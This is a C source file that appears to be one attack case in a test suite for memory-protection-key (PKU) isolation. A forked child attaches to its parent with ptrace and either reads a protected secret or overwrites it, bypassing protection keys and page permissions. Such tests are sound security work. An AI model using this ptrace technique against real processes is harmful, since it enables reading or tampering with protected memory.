/* B4: a child attaches to its parent as a debugger, whose accesses ignore both
 * protection keys and page protection.
 *
 * Source: [PKU Pitfalls], [ptrace(2)].
 */
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include "attack.h"

#define WORDS (SECRET_BYTES / sizeof(long))

static void peek(pid_t parent) {
    long words[WORDS];
    for (size_t i = 0; i < WORDS; i++) {
        errno = 0;
        words[i] = ptrace(PTRACE_PEEKDATA, parent, (long *)target.secret + i, NULL);
        if (errno) TRY("ptrace", -1);
    }
    attack_hand_in(words, sizeof words);
}

static void poke(pid_t parent) { TRY("ptrace", ptrace(PTRACE_POKEDATA, parent, (void *)target.secret, 0)); }

/* In the child; attack_refused and attack_hand_in write to memory that it shares. */
static void debug(pid_t parent, void (*act)(pid_t)) {
    TRY("ptrace", ptrace(PTRACE_ATTACH, parent, NULL, NULL));
    TRY("wait4", waitpid(parent, NULL, __WALL));
    act(parent);
    TRY("ptrace", ptrace(PTRACE_DETACH, parent, NULL, NULL));
}

static void by_child(void (*act)(pid_t)) {
    pid_t parent = getpid(), pid = (pid_t)TRY("fork", syscall(SYS_fork));
    if (!pid) {
        debug(parent, act);
        syscall(SYS_exit_group, 0);
    }
    while (waitpid(pid, NULL, 0) < 0 && errno == EINTR) {}
}

static void child_peeks(void) { by_child(peek); }
static void child_pokes(void) { by_child(poke); }

const struct attack attacks[] = {
    {.variant = "peek", .attack = child_peeks},
    {.variant = "poke", .attack = child_pokes},
    {0},
};
